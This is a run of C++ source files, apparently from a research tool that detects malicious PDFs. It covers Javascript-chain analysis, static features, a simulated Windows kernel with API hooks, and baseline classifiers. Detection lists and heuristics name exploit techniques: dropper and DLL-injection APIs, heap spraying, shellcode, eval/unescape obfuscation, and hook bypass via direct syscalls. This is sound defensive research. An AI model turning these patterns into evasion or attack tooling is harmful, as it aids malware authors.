  ScanService& service_;
  std::filesystem::path dir_;
  std::filesystem::path done_dir_;
  std::filesystem::path failed_dir_;
  SpoolOptions options_;
  std::thread thread_;
  std::atomic<bool> running_{false};
  std::mutex inflight_mutex_;
  std::unordered_set<std::string> inflight_;  ///< names submitted, unanswered
  std::atomic<std::uint64_t> files_submitted_{0};
};

/// AF_UNIX stream server speaking the length-prefixed protocol above.
class SocketServer {
 public:
  SocketServer(ScanService& service, std::string socket_path);
  ~SocketServer();

  SocketServer(const SocketServer&) = delete;
  SocketServer& operator=(const SocketServer&) = delete;

  /// Binds + listens + starts the accept loop; throws support::Error on
  /// bind failure (stale sockets are unlinked first).
  void start();
  void stop();

  const std::string& path() const { return path_; }

 private:
  void accept_loop();
  void serve_connection(int fd);

  ScanService& service_;
  std::string path_;
  int listen_fd_ = -1;
  std::thread accept_thread_;
  std::atomic<bool> running_{false};
  std::mutex conn_mutex_;
  std::vector<int> conn_fds_;
  std::vector<std::thread> conn_threads_;
};

/// Client side of the socket protocol: sends one document, returns the
/// response JSON line. Throws support::Error on connect/protocol failure.
std::string socket_scan(const std::string& socket_path,
                        std::string_view name, support::BytesView data);

}  // namespace pdfshield::core::serve
