#include "core/static_features.hpp"

#include "pdf/filters.hpp"

namespace pdfshield::core {

namespace {

/// True when `obj` is "empty" in the Figure-2 sense: a junk object that
/// carries no data (a chain terminator used to mislead analyzers).
bool is_empty_object(const pdf::Object& obj) {
  if (obj.is_null()) return true;
  if (obj.is_dict()) return obj.as_dict().empty();
  if (obj.is_array()) return obj.as_array().empty();
  if (obj.is_string()) return obj.as_string().data.empty();
  if (obj.is_stream()) return obj.as_stream().data.empty();
  return false;
}

/// True when any name (key or value) in `obj` used a #xx escape.
bool has_hex_escaped_name(const pdf::Object& obj) {
  switch (obj.value().index()) {
    case 5:  // name
      return obj.as_name().has_hex_escape();
    case 6:  // array
      for (const pdf::Object& item : obj.as_array()) {
        if (has_hex_escaped_name(item)) return true;
      }
      return false;
    case 7:    // dict
    case 8: {  // stream
      const pdf::Dict& d = obj.dict_or_stream_dict();
      if (d.has_hex_escaped_key()) return true;
      for (const auto& e : d.entries()) {
        if (has_hex_escaped_name(e.value)) return true;
      }
      return false;
    }
    default:
      return false;
  }
}

}  // namespace

EncodingLevels snapshot_encoding_levels(const pdf::Document& doc) {
  EncodingLevels out;
  for (const auto& [num, obj] : doc.objects()) {
    if (obj.is_stream()) {
      out[num] = static_cast<int>(pdf::filter_chain(obj.as_stream().dict).size());
    }
  }
  return out;
}

StaticFeatures extract_static_features(const pdf::Document& doc,
                                       const JsChainAnalysis& chains,
                                       const EncodingLevels* encoding_levels) {
  StaticFeatures out;

  // F1: ratio of objects on Javascript chains.
  out.js_chain_ratio = chains.chain_ratio();

  // F2: header obfuscation — absent header, non-zero offset, or a version
  // number outside the published set.
  const pdf::HeaderInfo& h = doc.header();
  out.header_obfuscated = !h.found || h.offset != 0 || !h.version_valid;

  // F3/F4/F5 are checked for objects on Javascript chains only (§III-B).
  for (int num : chains.chain_objects) {
    const pdf::Object* obj = doc.object({num, 0});
    if (!obj) continue;

    if (!out.hex_code_in_keyword && has_hex_escaped_name(*obj)) {
      out.hex_code_in_keyword = true;
    }
    if (is_empty_object(*obj)) ++out.empty_object_count;
    int levels = 0;
    if (encoding_levels) {
      auto it = encoding_levels->find(num);
      if (it != encoding_levels->end()) levels = it->second;
    } else if (obj->is_stream()) {
      levels = static_cast<int>(pdf::filter_chain(obj->as_stream().dict).size());
    }
    out.max_encoding_levels = std::max(out.max_encoding_levels, levels);
  }
  return out;
}

StaticFeatures extract_static_features(const pdf::Document& doc) {
  return extract_static_features(doc, analyze_js_chains(doc));
}

}  // namespace pdfshield::core
