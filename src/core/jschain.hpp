// Javascript-chain reconstruction (paper §III-C, Figure 2).
//
// A *Javascript chain* is every indirect object on a reference path through
// an object that carries Javascript (/JS value, /S /JavaScript action, or
// the /Names /JavaScript tree). Reconstruction scans for Javascript
// carriers, then backtracks to ancestors and forward-searches descendants
// over the reference graph. Chains reachable from a triggering action
// (/OpenAction, /AA, /Names) are the ones the instrumenter rewrites.
#pragma once

#include <set>
#include <string>
#include <vector>

#include "pdf/document.hpp"
#include "pdf/graph.hpp"

namespace pdfshield::core {

/// One Javascript occurrence in a document.
struct JsSite {
  int object_num = 0;          ///< Object whose dict has the /JS entry.
  bool code_in_stream = false; ///< /JS points at (or is) a stream.
  int code_object = 0;         ///< Object holding the code text (may equal
                               ///< object_num when the string is inline).
  std::string source;          ///< Decoded Javascript source.
  bool triggered = false;      ///< Reachable from a triggering action.
  int sequence_id = -1;        ///< Group id for /Next- or /Names-sequences.
  int sequence_pos = 0;        ///< Position within the sequence.
  std::set<int> chain;         ///< Every object on this site's chain.
};

struct JsChainAnalysis {
  std::vector<JsSite> sites;
  std::set<int> chain_objects;  ///< Union of all chains.
  std::size_t total_objects = 0;
  int sequence_count = 0;

  /// F1 numerator/denominator: |chain objects| / |document objects|.
  double chain_ratio() const {
    return total_objects == 0
               ? 0.0
               : static_cast<double>(chain_objects.size()) /
                     static_cast<double>(total_objects);
  }

  bool has_javascript() const { return !sites.empty(); }
};

/// Reconstructs all Javascript chains in `doc`.
JsChainAnalysis analyze_js_chains(const pdf::Document& doc);

}  // namespace pdfshield::core
