#include "core/deinstrumentation.hpp"

#include "pdf/parser.hpp"
#include "pdf/writer.hpp"

namespace pdfshield::core {

bool DeinstrumentationManager::note_benign_open(const std::string& doc_key,
                                                support::Rng& rng) {
  int& streak = streaks_[doc_key];
  ++streak;
  if (streak < policy_.benign_opens_required) return false;
  if (policy_.keep_probability > 0.0 && rng.chance(policy_.keep_probability)) {
    // Randomized retention: the attacker cannot rely on monitoring
    // vanishing after a fixed number of clean opens.
    return false;
  }
  streaks_.erase(doc_key);
  return true;
}

void DeinstrumentationManager::note_suspicious(const std::string& doc_key) {
  streaks_.erase(doc_key);
}

int DeinstrumentationManager::benign_streak(const std::string& doc_key) const {
  auto it = streaks_.find(doc_key);
  return it == streaks_.end() ? 0 : it->second;
}

support::Bytes deinstrument_file(support::BytesView instrumented_file,
                                 const InstrumentationRecord& record) {
  pdf::Document doc = pdf::parse_document(instrumented_file);
  Instrumenter::deinstrument(doc, record);
  return pdf::write_document(doc);
}

}  // namespace pdfshield::core
