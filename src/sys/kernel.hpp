// Simulated Windows-like kernel. This substitutes for the paper's real
// runtime environment (Adobe Reader on Windows XP with IAT hooking): it
// provides processes with byte-accounted memory, a virtual file system, a
// network stack, an API table whose entries can be hooked per-process
// (IAT-hook semantics: the hook observes the call + arguments and can veto
// it before the native implementation runs), AppInit-style DLL injection
// and a Sandboxie-like jail for confined child processes.
#pragma once

#include <cstdint>
#include <functional>
#include <map>
#include <memory>
#include <optional>
#include <string>
#include <vector>

#include "support/bytes.hpp"
#include "support/error.hpp"
#include "trace/recorder.hpp"

namespace pdfshield::sys {

/// One intercepted API invocation, as seen by a hook (and forwarded to the
/// runtime detector over the hook channel).
struct ApiEvent {
  int pid = 0;
  std::string api;                  ///< e.g. "NtCreateFile"
  std::vector<std::string> args;    ///< stringified arguments
  std::uint64_t memory_bytes = 0;   ///< process working set at call time
  /// false: pre-call (hook may veto); true: post-call notification after
  /// the native implementation ran (return value ignored). Wrapping-hook
  /// semantics: pre -> original -> post.
  bool post = false;
};

enum class ApiOutcome {
  kAllow,  ///< hook lets the original API execute
  kBlock,  ///< hook rejects the call (original API does not run)
};

/// Hook callback: observes the event, decides allow/block.
using HookFn = std::function<ApiOutcome(const ApiEvent&)>;

/// Result of an API call as seen by the caller (shellcode / reader / JS).
struct ApiResult {
  bool allowed = true;      ///< false when a hook blocked the call
  bool succeeded = false;   ///< native implementation outcome
  std::string value;        ///< API-specific return payload (pid, path, ...)
};

/// In-memory file system. Paths are opaque strings; the sandbox and
/// quarantine areas are modelled as path prefixes.
class VirtualFileSystem {
 public:
  void write(const std::string& path, support::Bytes contents);
  bool exists(const std::string& path) const;
  const support::Bytes* read(const std::string& path) const;
  bool remove(const std::string& path);
  std::vector<std::string> list() const;

  /// Moves a file into the quarantine area; returns the new path.
  std::string quarantine(const std::string& path);

  /// True when the path is (already) quarantined.
  static bool is_quarantined(const std::string& path);

 private:
  std::map<std::string, support::Bytes> files_;
};

/// Connection log for the simulated network stack.
struct NetRecord {
  int pid = 0;
  std::string host;
  int port = 0;
  bool listening = false;  ///< true for listen(), false for connect()
};

class Network {
 public:
  void record(NetRecord r) { log_.push_back(std::move(r)); }
  const std::vector<NetRecord>& log() const { return log_; }

 private:
  std::vector<NetRecord> log_;
};

/// A simulated process.
class Process {
 public:
  Process(int pid, std::string image) : pid_(pid), image_(std::move(image)) {}

  int pid() const { return pid_; }
  const std::string& image() const { return image_; }

  /// Working-set accounting (PROCESS_MEMORY_COUNTERS_EX analogue).
  std::uint64_t memory_bytes() const { return memory_bytes_; }
  void alloc(std::uint64_t bytes) { memory_bytes_ += bytes; }
  void free(std::uint64_t bytes) {
    memory_bytes_ = bytes < memory_bytes_ ? memory_bytes_ - bytes : 0;
  }

  /// Heap-spray capture: prefixes of very large strings the embedded JS
  /// engine allocated, in allocation order. The reader's exploit simulation
  /// scans these for shellcode.
  std::vector<std::string>& sprayed_payloads() { return sprayed_payloads_; }
  const std::vector<std::string>& sprayed_payloads() const {
    return sprayed_payloads_;
  }

  bool crashed() const { return crashed_; }
  void crash() { crashed_ = true; }

  bool terminated() const { return terminated_; }

  bool sandboxed() const { return sandboxed_; }
  const std::vector<std::string>& injected_dlls() const { return dlls_; }

 private:
  friend class Kernel;
  int pid_;
  std::string image_;
  std::uint64_t memory_bytes_ = 0;
  std::vector<std::string> sprayed_payloads_;
  std::vector<std::string> dlls_;
  bool crashed_ = false;
  bool terminated_ = false;
  bool sandboxed_ = false;
};

/// The kernel: process table + file system + network + API dispatch.
///
/// Every dispatched API call lands on the kernel's trace recorder as an
/// api-call event; the bounded ring behind it is the (capped) successor of
/// the old unbounded event log. Other components — detector, CLI, batch
/// scanner — attach their own sinks to trace() to observe the same stream.
class Kernel {
 public:
  /// Default capacity of the retained trace ring (event_log() window).
  static constexpr std::size_t kDefaultTraceCapacity = 4096;

  explicit Kernel(std::size_t trace_ring_capacity = kDefaultTraceCapacity);

  // --- processes -----------------------------------------------------------

  /// Spawns a process. AppInit callbacks run before it is returned.
  Process& create_process(const std::string& image, bool sandboxed = false);
  Process* process(int pid);
  const Process* process(int pid) const;
  void terminate(int pid);
  const std::map<int, std::unique_ptr<Process>>& processes() const {
    return processes_;
  }

  /// AppInit_DLLs analogue: `fn` runs for every newly created process. The
  /// trampoline-DLL trick from the paper (load the real hook DLL only into
  /// PDF readers) is expressed inside `fn`.
  void set_appinit(std::function<void(Process&)> fn) { appinit_ = std::move(fn); }

  // --- hooking --------------------------------------------------------------

  /// Installs an IAT hook on `api` for process `pid`. Multiple hooks run in
  /// installation order; the first kBlock wins. IAT hooks live in the
  /// process's import table: a caller that resolves the routine directly
  /// (GetProcAddress / raw syscall) bypasses them.
  void install_hook(int pid, const std::string& api, HookFn hook);
  void remove_hooks(int pid);
  bool has_hooks(int pid) const;

  /// Installs a kernel-mode (SSDT-style) hook on `api`: system-wide, runs
  /// for every caller including direct syscalls — the "advanced kernel
  /// mode hooks" the paper plans to counter IAT bypass with.
  void install_kernel_hook(const std::string& api, HookFn hook);

  /// Names of every API the kernel dispatches (hookable surface).
  static const std::vector<std::string>& api_surface();

  // --- API dispatch ---------------------------------------------------------

  /// How the caller reaches the API.
  enum class CallPath {
    kImportTable,  ///< normal import: IAT hooks + kernel hooks apply
    kDirect,       ///< GetProcAddress / raw syscall: only kernel hooks apply
  };

  /// Invokes `api` from process `pid`. Hooks run first; if allowed, the
  /// native implementation executes. Throws SysError for unknown pids/APIs.
  ApiResult call_api(int pid, const std::string& api,
                     std::vector<std::string> args,
                     CallPath path = CallPath::kImportTable);

  VirtualFileSystem& fs() { return fs_; }
  const VirtualFileSystem& fs() const { return fs_; }
  Network& net() { return net_; }
  const Network& net() const { return net_; }

  /// The kernel's trace spine: api-call events land here; attach sinks
  /// (JSONL, counters) to export them, set the doc context to correlate
  /// calls with the document being rendered.
  trace::Recorder& trace() { return recorder_; }
  const trace::Recorder& trace() const { return recorder_; }

  /// Event log (dispatched API calls), materialized from the bounded trace
  /// ring: the most recent window, oldest first. Older entries are evicted
  /// and counted in dropped_events() — the log can no longer grow without
  /// limit over a long session.
  std::vector<ApiEvent> event_log() const;

  /// Trace-ring evictions (events of any kind pushed out of the window).
  std::uint64_t dropped_events() const { return recorder_.ring_dropped(); }

 private:
  ApiResult dispatch_native(Process& proc, const std::string& api,
                            const std::vector<std::string>& args);

  std::map<int, std::unique_ptr<Process>> processes_;
  std::map<int, std::map<std::string, std::vector<HookFn>>> hooks_;
  std::map<std::string, std::vector<HookFn>> kernel_hooks_;
  std::function<void(Process&)> appinit_;
  VirtualFileSystem fs_;
  Network net_;
  trace::Recorder recorder_;
  int next_pid_ = 1000;
};

}  // namespace pdfshield::sys
