#include <cstdlib>
#include "sys/kernel.hpp"

#include <algorithm>

namespace pdfshield::sys {

using support::SysError;

namespace {
constexpr const char* kSandboxPrefix = "sandbox://";
constexpr const char* kQuarantinePrefix = "quarantine://";
}  // namespace

// ---------------------------------------------------------------------------
// VirtualFileSystem
// ---------------------------------------------------------------------------

void VirtualFileSystem::write(const std::string& path, support::Bytes contents) {
  files_[path] = std::move(contents);
}

bool VirtualFileSystem::exists(const std::string& path) const {
  return files_.count(path) > 0;
}

const support::Bytes* VirtualFileSystem::read(const std::string& path) const {
  auto it = files_.find(path);
  return it == files_.end() ? nullptr : &it->second;
}

bool VirtualFileSystem::remove(const std::string& path) {
  return files_.erase(path) > 0;
}

std::vector<std::string> VirtualFileSystem::list() const {
  std::vector<std::string> out;
  out.reserve(files_.size());
  for (const auto& [path, data] : files_) out.push_back(path);
  return out;
}

std::string VirtualFileSystem::quarantine(const std::string& path) {
  auto it = files_.find(path);
  if (it == files_.end()) return {};
  const std::string dest = std::string(kQuarantinePrefix) + path;
  files_[dest] = std::move(it->second);
  files_.erase(it);
  return dest;
}

bool VirtualFileSystem::is_quarantined(const std::string& path) {
  return path.rfind(kQuarantinePrefix, 0) == 0;
}

// ---------------------------------------------------------------------------
// Kernel
// ---------------------------------------------------------------------------

Kernel::Kernel(std::size_t trace_ring_capacity)
    : recorder_("", trace_ring_capacity) {}

std::vector<ApiEvent> Kernel::event_log() const {
  std::vector<ApiEvent> out;
  for (const trace::Event& event : recorder_.events()) {
    const auto* call = std::get_if<trace::ApiCall>(&event.payload);
    if (!call || call->post) continue;
    ApiEvent e;
    e.pid = call->pid;
    e.api = call->api;
    e.args = call->args;
    e.memory_bytes = call->memory_bytes;
    e.post = call->post;
    out.push_back(std::move(e));
  }
  return out;
}

Process& Kernel::create_process(const std::string& image, bool sandboxed) {
  const int pid = next_pid_++;
  auto proc = std::make_unique<Process>(pid, image);
  proc->sandboxed_ = sandboxed;
  Process& ref = *proc;
  processes_.emplace(pid, std::move(proc));
  if (appinit_) appinit_(ref);
  return ref;
}

Process* Kernel::process(int pid) {
  auto it = processes_.find(pid);
  return it == processes_.end() ? nullptr : it->second.get();
}

const Process* Kernel::process(int pid) const {
  auto it = processes_.find(pid);
  return it == processes_.end() ? nullptr : it->second.get();
}

void Kernel::terminate(int pid) {
  if (Process* p = process(pid)) p->terminated_ = true;
}

void Kernel::install_hook(int pid, const std::string& api, HookFn hook) {
  if (!process(pid)) throw SysError("install_hook: no such pid");
  hooks_[pid][api].push_back(std::move(hook));
}

void Kernel::remove_hooks(int pid) {
  hooks_.erase(pid);
}

bool Kernel::has_hooks(int pid) const {
  auto it = hooks_.find(pid);
  return it != hooks_.end() && !it->second.empty();
}

const std::vector<std::string>& Kernel::api_surface() {
  static const std::vector<std::string> kApis = {
      // file / dropper
      "NtCreateFile", "URLDownloadToFile", "URLDownloadToCacheFile",
      // network
      "connect", "listen",
      // process
      "NtCreateProcess", "NtCreateProcessEx", "NtCreateUserProcess",
      // DLL injection
      "CreateRemoteThread",
      // egg-hunt / mapped memory search
      "NtAccessCheckAndAuditAlarm", "IsBadReadPtr", "NtDisplayString",
      "NtAddAtom",
  };
  return kApis;
}

void Kernel::install_kernel_hook(const std::string& api, HookFn hook) {
  kernel_hooks_[api].push_back(std::move(hook));
}

ApiResult Kernel::call_api(int pid, const std::string& api,
                           std::vector<std::string> args, CallPath path) {
  Process* proc = process(pid);
  if (!proc) throw SysError("call_api: no such pid " + std::to_string(pid));
  const auto& surface = api_surface();
  if (std::find(surface.begin(), surface.end(), api) == surface.end()) {
    throw SysError("call_api: unknown API " + api);
  }

  ApiEvent event;
  event.pid = pid;
  event.api = api;
  event.args = args;
  event.memory_bytes = proc->memory_bytes();
  recorder_.record(trace::ApiCall{pid, api, args, event.memory_bytes,
                                  /*post=*/false});

  // Assemble the hook chain for this call path. IAT hooks sit in the
  // process import table, so a direct (GetProcAddress / raw syscall) call
  // walks past them; kernel-mode hooks see every caller.
  std::vector<const HookFn*> chain;
  if (path == CallPath::kImportTable) {
    auto pit = hooks_.find(pid);
    if (pit != hooks_.end()) {
      auto hit = pit->second.find(api);
      if (hit != pit->second.end()) {
        for (const HookFn& hook : hit->second) chain.push_back(&hook);
      }
    }
  }
  if (auto kit = kernel_hooks_.find(api); kit != kernel_hooks_.end()) {
    for (const HookFn& hook : kit->second) chain.push_back(&hook);
  }

  for (const HookFn* hook : chain) {
    if ((*hook)(event) == ApiOutcome::kBlock) {
      recorder_.record(trace::HookVerdict{api, /*blocked=*/true});
      return ApiResult{/*allowed=*/false, /*succeeded=*/false, {}};
    }
  }

  ApiResult result = dispatch_native(*proc, api, args);
  result.allowed = true;

  ApiEvent post_event = event;
  post_event.post = true;
  for (const HookFn* hook : chain) (*hook)(post_event);
  return result;
}

ApiResult Kernel::dispatch_native(Process& proc, const std::string& api,
                                  const std::vector<std::string>& args) {
  ApiResult r;
  auto arg = [&](std::size_t i) -> std::string {
    return i < args.size() ? args[i] : std::string();
  };

  auto effective_path = [&](std::string path) {
    // Sandboxed processes get their writes redirected into the jail.
    if (proc.sandboxed() && path.rfind(kSandboxPrefix, 0) != 0) {
      return std::string(kSandboxPrefix) + path;
    }
    return path;
  };

  if (api == "NtCreateFile") {
    const std::string path = effective_path(arg(0));
    fs_.write(path, support::to_bytes(arg(1)));
    r.succeeded = true;
    r.value = path;
    return r;
  }
  if (api == "URLDownloadToFile" || api == "URLDownloadToCacheFile") {
    const std::string url = arg(0);
    const std::string path = effective_path(
        api == "URLDownloadToCacheFile" && arg(1).empty() ? "cache/" + url
                                                          : arg(1));
    net_.record({proc.pid(), url, 80, /*listening=*/false});
    // Downloaded executables carry the PE magic so the detector's
    // executable tracking has something real to look at.
    fs_.write(path, support::to_bytes("MZ\x90payload-from:" + url));
    r.succeeded = true;
    r.value = path;
    return r;
  }
  if (api == "connect") {
    net_.record({proc.pid(), arg(0), std::atoi(arg(1).c_str()), false});
    r.succeeded = true;
    return r;
  }
  if (api == "listen") {
    net_.record({proc.pid(), "0.0.0.0", std::atoi(arg(0).c_str()), true});
    r.succeeded = true;
    return r;
  }
  if (api == "NtCreateProcess" || api == "NtCreateProcessEx" ||
      api == "NtCreateUserProcess") {
    Process& child = create_process(arg(0), proc.sandboxed());
    r.succeeded = true;
    r.value = std::to_string(child.pid());
    return r;
  }
  if (api == "CreateRemoteThread") {
    Process* target = process(std::atoi(arg(0).c_str()));
    if (!target) {
      r.succeeded = false;
      return r;
    }
    target->dlls_.push_back(arg(1));
    r.succeeded = true;
    return r;
  }
  // Egg-hunt syscalls: observable no-ops (their only purpose is to probe
  // address validity safely).
  if (api == "NtAccessCheckAndAuditAlarm" || api == "IsBadReadPtr" ||
      api == "NtDisplayString" || api == "NtAddAtom") {
    r.succeeded = true;
    return r;
  }
  throw SysError("dispatch_native: unhandled API " + api);
}

}  // namespace pdfshield::sys
