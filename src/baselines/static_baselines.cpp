#include "baselines/static_baselines.hpp"

#include <algorithm>
#include <cmath>
#include <map>
#include <set>

#include "core/jschain.hpp"
#include "js/lexer.hpp"
#include "jsstatic/analyzer.hpp"
#include "pdf/filters.hpp"
#include "pdf/graph.hpp"
#include "pdf/parser.hpp"

namespace pdfshield::baselines {

using support::BytesView;

namespace {

/// Tolerant parse; nullopt when the bytes are not PDF at all.
std::optional<pdf::Document> try_parse(BytesView file) {
  try {
    return pdf::parse_document(file);
  } catch (const support::Error&) {
    return std::nullopt;
  }
}

/// Concatenated Javascript from every chain site.
std::string extract_all_js(const pdf::Document& doc) {
  std::string out;
  for (const auto& site : core::analyze_js_chains(doc).sites) {
    out += site.source;
    out.push_back('\n');
  }
  return out;
}

}  // namespace

// ---------------------------------------------------------------------------
// NgramBaseline
// ---------------------------------------------------------------------------

ml::FeatureVector NgramBaseline::features(BytesView file) {
  // Byte bigrams hashed into 128 buckets, frequency-normalized.
  constexpr std::size_t kBuckets = 128;
  ml::FeatureVector v(kBuckets, 0.0);
  for (std::size_t i = 0; i + 1 < file.size(); ++i) {
    const std::size_t h =
        (static_cast<std::size_t>(file[i]) * 257 + file[i + 1]) % kBuckets;
    v[h] += 1.0;
  }
  const double total = std::max<double>(1.0, static_cast<double>(file.size()));
  for (double& x : v) x /= total;
  return v;
}

void NgramBaseline::train(const std::vector<corpus::Sample>& samples) {
  ml::Dataset data;
  for (const auto& s : samples) {
    data.add(features(s.data), s.malicious ? 1 : 0);
  }
  ml::NaiveBayes::Config cfg;
  cfg.presence_threshold = 0.002;  // bucket carries >0.2% of bigram mass
  model_ = ml::NaiveBayes(cfg);
  model_.train(data);
}

int NgramBaseline::predict(BytesView file) {
  return model_.predict(features(file));
}

// ---------------------------------------------------------------------------
// PjscanBaseline
// ---------------------------------------------------------------------------

bool PjscanBaseline::features(BytesView file, ml::FeatureVector* out) {
  auto doc = try_parse(file);
  if (!doc) return false;
  const std::string js = extract_all_js(*doc);
  if (js.empty()) return false;

  std::vector<js::JsToken> tokens;
  try {
    tokens = js::tokenize_js(js);
  } catch (const support::Error&) {
    // Unlexable Javascript is itself a signal, but PJScan gives up here.
    return false;
  }

  double identifiers = 0, keywords = 0, numbers = 0, strings = 0, puncts = 0;
  double max_string_len = 0, long_strings = 0, total_string_len = 0;
  double suspicious_names = 0;
  for (const auto& t : tokens) {
    switch (t.kind) {
      case js::JsTokenKind::kIdentifier:
        identifiers += 1;
        if (t.text == "unescape" || t.text == "eval" ||
            t.text == "fromCharCode") {
          suspicious_names += 1;
        }
        break;
      case js::JsTokenKind::kKeyword: keywords += 1; break;
      case js::JsTokenKind::kNumber: numbers += 1; break;
      case js::JsTokenKind::kString: {
        strings += 1;
        const double len = static_cast<double>(t.text.size());
        total_string_len += len;
        max_string_len = std::max(max_string_len, len);
        if (len > 128) long_strings += 1;
        break;
      }
      case js::JsTokenKind::kPunct: puncts += 1; break;
      default: break;
    }
  }
  const double n = std::max<double>(1.0, static_cast<double>(tokens.size()));
  *out = {identifiers / n,
          keywords / n,
          numbers / n,
          strings / n,
          puncts / n,
          std::log1p(max_string_len),
          long_strings,
          std::log1p(total_string_len),
          suspicious_names,
          std::log1p(n)};
  return true;
}

void PjscanBaseline::train(const std::vector<corpus::Sample>& samples) {
  // One-class training on the malicious population only.
  std::vector<ml::FeatureVector> target;
  for (const auto& s : samples) {
    if (!s.malicious) continue;
    ml::FeatureVector v;
    if (features(s.data, &v)) target.push_back(std::move(v));
  }
  ml::OneClassCentroid::Config cfg;
  cfg.radius_sigmas = 2.0;
  model_ = ml::OneClassCentroid(cfg);
  model_.train(target);
}

int PjscanBaseline::predict(BytesView file) {
  ml::FeatureVector v;
  if (!features(file, &v)) return 0;  // no extractable JS: benign verdict
  return model_.predict(v);
}

// ---------------------------------------------------------------------------
// StructuralBaseline
// ---------------------------------------------------------------------------

namespace {

void collect_paths(const pdf::Document& doc, const pdf::Object& obj,
                   const std::string& prefix, int depth,
                   std::set<int>& visited_objects,
                   std::set<std::string>& paths) {
  if (depth > 6) return;
  paths.insert(prefix);
  const pdf::Object& r = doc.resolve(obj);
  // Cycle guard on indirect objects.
  if (obj.is_ref()) {
    if (!visited_objects.insert(obj.as_ref().num).second) return;
  }
  if (r.is_array()) {
    // Arrays contribute their element structure under the same component
    // (the hierarchical-path flattening of [5]).
    for (const pdf::Object& item : r.as_array()) {
      collect_paths(doc, item, prefix, depth + 1, visited_objects, paths);
    }
  } else if (r.is_dict() || r.is_stream()) {
    for (const auto& e : r.dict_or_stream_dict().entries()) {
      collect_paths(doc, e.value, prefix + "/" + std::string(e.key), depth + 1,
                    visited_objects, paths);
    }
  }
  if (obj.is_ref()) visited_objects.erase(obj.as_ref().num);
}

std::set<std::string> structural_paths(BytesView file) {
  std::set<std::string> paths;
  auto doc = try_parse(file);
  if (!doc) return paths;
  const pdf::Object* root = doc->trailer().find("Root");
  if (root) {
    std::set<int> visited;
    collect_paths(*doc, *root, "", 0, visited, paths);
  }
  return paths;
}

}  // namespace

void StructuralBaseline::train(const std::vector<corpus::Sample>& samples) {
  // Vocabulary: every path seen in training, most frequent first, capped.
  std::map<std::string, std::size_t> counts;
  std::vector<std::set<std::string>> per_sample;
  per_sample.reserve(samples.size());
  for (const auto& s : samples) {
    per_sample.push_back(structural_paths(s.data));
    for (const auto& p : per_sample.back()) ++counts[p];
  }
  std::vector<std::pair<std::size_t, std::string>> ranked;
  for (auto& [path, c] : counts) ranked.emplace_back(c, path);
  std::sort(ranked.rbegin(), ranked.rend());
  vocabulary_.clear();
  for (const auto& [c, path] : ranked) {
    vocabulary_.push_back(path);
    if (vocabulary_.size() >= 256) break;
  }

  ml::Dataset data;
  for (std::size_t i = 0; i < samples.size(); ++i) {
    ml::FeatureVector v(vocabulary_.size(), 0.0);
    for (std::size_t j = 0; j < vocabulary_.size(); ++j) {
      if (per_sample[i].count(vocabulary_[j])) v[j] = 1.0;
    }
    data.add(std::move(v), samples[i].malicious ? 1 : 0);
  }
  support::Rng rng(0x57u);
  model_.train(data, rng);
}

ml::FeatureVector StructuralBaseline::vectorize(BytesView file) const {
  const std::set<std::string> paths = structural_paths(file);
  ml::FeatureVector v(vocabulary_.size(), 0.0);
  for (std::size_t j = 0; j < vocabulary_.size(); ++j) {
    if (paths.count(vocabulary_[j])) v[j] = 1.0;
  }
  return v;
}

int StructuralBaseline::predict(BytesView file) {
  return model_.predict(vectorize(file));
}

// ---------------------------------------------------------------------------
// PdfrateBaseline
// ---------------------------------------------------------------------------

ml::FeatureVector PdfrateBaseline::features(BytesView file) {
  auto doc = try_parse(file);
  if (!doc) {
    return ml::FeatureVector(14, 0.0);
  }
  double objects = 0, streams = 0, pages = 0, fonts = 0, js_entries = 0;
  double open_action = 0, aa = 0, acroform = 0, embedded = 0;
  double total_stream_bytes = 0, filters = 0;
  for (const auto& [num, obj] : doc->objects()) {
    ++objects;
    if (obj.is_stream()) {
      ++streams;
      total_stream_bytes += static_cast<double>(obj.as_stream().data.size());
      filters += static_cast<double>(
          pdf::filter_chain(obj.as_stream().dict).size());
    }
    if (!obj.is_dict() && !obj.is_stream()) continue;
    const pdf::Dict& d = obj.dict_or_stream_dict();
    if (const pdf::Object* t = d.find("Type"); t && t->is_name()) {
      const std::string_view type = t->as_name().value;
      if (type == "Page") ++pages;
      if (type == "Font") ++fonts;
      if (type == "EmbeddedFile") ++embedded;
    }
    if (d.contains("JS")) ++js_entries;
    if (d.contains("OpenAction")) ++open_action;
    if (d.contains("AA")) ++aa;
    if (d.contains("AcroForm")) ++acroform;
  }
  const double size = static_cast<double>(file.size());
  return {std::log1p(size),
          objects,
          streams,
          pages,
          fonts,
          js_entries,
          open_action,
          aa,
          acroform,
          embedded,
          std::log1p(total_stream_bytes),
          filters,
          pages > 0 ? objects / pages : objects,
          static_cast<double>(doc->header().offset)};
}

void PdfrateBaseline::train(const std::vector<corpus::Sample>& samples) {
  ml::Dataset data;
  for (const auto& s : samples) {
    data.add(features(s.data), s.malicious ? 1 : 0);
  }
  support::Rng rng(0x4Au);
  model_.train(data, rng);
}

int PdfrateBaseline::predict(BytesView file) {
  return model_.predict(features(file));
}

// ---------------------------------------------------------------------------
// JsStaticBaseline
// ---------------------------------------------------------------------------

void JsStaticBaseline::train(const std::vector<corpus::Sample>&) {
  // Heuristic scorer; nothing to fit.
}

int JsStaticBaseline::predict(BytesView file) {
  auto doc = try_parse(file);
  if (!doc) return 0;
  try {
    doc->decompress_all();
  } catch (const support::Error&) {
    // Undecodable streams: score whatever scripts are still reachable.
  }
  std::vector<std::string> sources;
  for (const auto& site : core::analyze_js_chains(*doc).sites) {
    sources.push_back(site.source);
  }
  const jsstatic::Report rep = jsstatic::analyze_scripts(sources);

  // Byte-pattern indicators are strong evidence on their own; a code sink
  // or API references only convict in combination (benign viewers eval
  // trivia and poke app.* constantly — one weak fact must not flip them).
  double score = 0.0;
  if (rep.shellcode) score += 3.0;
  if (rep.nop_sled) score += 2.0;
  if (rep.heap_spray_loop) score += 2.0;
  if (!rep.sinks.empty()) score += 1.0;
  if (rep.suspicious_api_count() >= 2) score += 1.0;
  if (rep.obfuscation_score > 0.6) score += 1.0;
  if (rep.longest_string >= 64 * 1024) score += 1.0;
  return score >= threshold ? 1 : 0;
}

}  // namespace pdfshield::baselines
