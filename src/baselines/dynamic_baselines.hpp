// Dynamic / hybrid baselines of Table IX:
//   MdscanBaseline  — extract-and-emulate [9]: pulls Javascript out of the
//                     document and executes it in a bare engine with stub
//                     Acrobat objects; flags heap-spray memory pressure or
//                     exploit-shaped API calls. Inherits the approach's
//                     documented weaknesses: document-context references
//                     (this.info.title payloads) break extraction-based
//                     execution, and version-gated samples stay dormant.
//   WepawetBaseline — JSAND-style lexical/statistical heuristics [14][18]
